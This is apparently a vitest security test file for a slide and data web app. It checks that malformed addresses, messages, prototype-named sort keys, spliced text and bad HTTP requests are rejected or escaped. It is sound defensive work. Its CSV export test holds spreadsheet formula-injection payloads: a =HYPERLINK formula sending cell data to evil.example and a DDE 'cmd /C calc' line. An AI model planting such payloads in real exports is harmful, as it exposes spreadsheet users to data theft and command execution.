/**
 * Hostile input, read where it arrives: a slide address, a message on the deck's channel, a
 * desk address naming an object's own machinery, a text Excel would run as a formula, `$`
 * patterns in text spliced into a page, and a request the local server cannot parse. Each is
 * an unknown value or plain text, never an exception or a changed page.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { disagreements } from '../../scripts/agree';
import { startServer } from '../../scripts/serve.js';
import { exportRows, toCsv } from '../../src/lib/data/export';
import { isChoice, searchQuery } from '../../src/lib/desk/filter';
import { readMessage, slideAt, slidesOf } from '../../src/lib/present/slides';
import { withStyle } from '../../src/lib/server/chart-styles';
import { parseCsv } from '../csv';
import { resolve } from 'node:path';
import { parseDataset } from '../../src/lib/data/parse';
import { readDataFiles } from '../../src/lib/server/dataset';

const slides = slidesOf([{ id: 'where', steps: [{ id: 'map' }] }]);

describe('a slide address', () => {
	it('with a malformed escape names no slide', () => {
		for (const hash of ['#/%', '#/%E4%B8', '#/where/%zz'])
			expect(slideAt(hash, slides)).toBeUndefined();
	});
});

describe('a message on the deck’s channel', () => {
	it('of the wrong shape is no message', () => {
		for (const data of [
			null,
			undefined,
			'show',
			42,
			{},
			{ type: 'show' },
			{ type: 'show', key: 3 },
			{ type: 'blank', blank: 'yes' },
			{ type: 'choice', query: 7 },
			{ type: 'timer', started: 'now' },
			{ type: 'timer', started: Infinity },
			{ type: 'other' }
		])
			expect(readMessage(data)).toBeUndefined();
	});

	it('of the right shape is read, and nothing else of it kept', () => {
		expect(readMessage({ type: 'show', key: 'where/map', extra: '<script>' })).toEqual({
			type: 'show',
			key: 'where/map'
		});
		expect(readMessage({ type: 'blank', blank: true })).toEqual({ type: 'blank', blank: true });
		expect(readMessage({ type: 'hello' })).toEqual({ type: 'hello' });
		expect(readMessage({ type: 'cover', cover: { occasion: '<b>x</b>', speaker: {} } })).toEqual({
			type: 'cover',
			cover: { occasion: '<b>x</b>', speaker: '', date: '' }
		});
		expect(readMessage({ type: 'timer', started: 1700000000000 })).toEqual({
			type: 'timer',
			started: 1700000000000
		});
		expect(readMessage({ type: 'timer', started: null })).toEqual({ type: 'timer', started: null });
		expect(readMessage({ type: 'choice', query: '?slides=short' })).toEqual({
			type: 'choice',
			query: '?slides=short'
		});
	});
});

describe('the desk’s address', () => {
	it('names no sort with __proto__, constructor or toString', () => {
		const sorts = { '': {}, 'year-desc': {} };
		for (const asked of ['__proto__', 'constructor', 'toString', 'hasOwnProperty'])
			expect(isChoice(sorts, searchQuery(`?sort=${asked}`).sort)).toBe(false);
		expect(isChoice(sorts, searchQuery('?sort=year-desc').sort)).toBe(true);
	});
});

describe('the CSV exports', () => {
	it('turn a text Excel would run as a formula into text, naming a fixture with =HYPERLINK', () => {
		const dataset = parseDataset(readDataFiles(resolve(import.meta.dirname, '../fixtures/valid')));
		const figure = dataset.figures[0]!;
		const hostile = {
			...dataset,
			figures: [
				{
					...figure,
					metric_zh: '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
					metric_en: "+cmd|' /C calc'!A0"
				},
				{ ...figure, id: `${figure.id}-b`, metric_zh: '@SUM(1+1)', metric_en: '-2+3' }
			]
		};
		const rows = parseCsv(toCsv(exportRows(hostile)).slice(1));
		const [header, ...body] = rows.filter((r) => r.length > 1);
		const col = (name: string) => header!.indexOf(name);
		expect(body.map((r) => r[col('metric_zh')])).toEqual([
			'\'=HYPERLINK("http://evil.example/?x="&A1,"点击")',
			"'@SUM(1+1)"
		]);
		expect(body.map((r) => r[col('metric_en')])).toEqual(["'+cmd|' /C calc'!A0", "'-2+3"]);
		// numbers stay numbers, negative ones too
		expect(body.map((r) => r[col('value')])).toEqual([String(figure.value), String(figure.value)]);
	});
});

describe('text spliced into a built page', () => {
	it("keeps $', $` and $& as they are", () => {
		const html =
			'<html><head><meta http-equiv="content-security-policy" content="style-src \'self\'"></head><body>x</body></html>';
		const css = '.a::after { content: "$\' $` $& $$" }';
		const page = withStyle(html, css);
		expect(page).toContain(`<style>${css}</style></head>`);
		expect(page.match(/<body>/gu)).toHaveLength(1);
	});
});

describe('the local server', () => {
	it('answers 400 to a request it cannot parse, and goes on serving', async () => {
		const dir = mkdtempSync(join(tmpdir(), 'serve-'));
		writeFileSync(join(dir, 'index.html'), '<!doctype html><title>ok</title>');
		const site = await startServer({ dir });
		const { port, hostname } = new URL(site.url);
		const raw = await new Promise<string>((done, fail) => {
			const socket = connect(Number(port), hostname, () =>
				socket.end('GET //[ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')
			);
			let text = '';
			socket.on('data', (chunk) => (text += chunk));
			socket.on('end', () => done(text));
			socket.on('error', fail);
		});
		expect(raw).toMatch(/^HTTP\/1\.1 400/u);
		const status = await new Promise<number>((done, fail) =>
			request(`${site.url}/`, (res) => {
				res.resume();
				done(res.statusCode ?? 0);
			})
				.on('error', fail)
				.end()
		);
		expect(status).toBe(200);
		await site.close();
		rmSync(dir, { recursive: true, force: true });
	});
});

describe('a build that does not agree with itself', () => {
	it('is named: pages whose app global no script reads, or two globals in one build', () => {
		const dir = mkdtempSync(join(tmpdir(), 'agree-'));
		mkdirSync(join(dir, '_app/immutable/entry'), { recursive: true });
		mkdirSync(join(dir, 'data'));
		writeFileSync(join(dir, '_app/immutable/entry/start.js'), 'globalThis.__sveltekit_aaa1;');
		writeFileSync(join(dir, 'index.html'), '<script>__sveltekit_aaa1 = {}</script>');
		expect(disagreements(dir)).toEqual([]);
		writeFileSync(join(dir, 'data/index.html'), '<script>__sveltekit_bbb2 = {}</script>');
		expect(disagreements(dir)).toEqual([
			'the pages name 2 app globals: __sveltekit_aaa1 (1 pages, e.g. /), __sveltekit_bbb2 (1 pages, e.g. /data/)',
			'1 pages (e.g. /data/) name __sveltekit_bbb2, which no script reads'
		]);
		rmSync(dir, { recursive: true, force: true });
	});
});
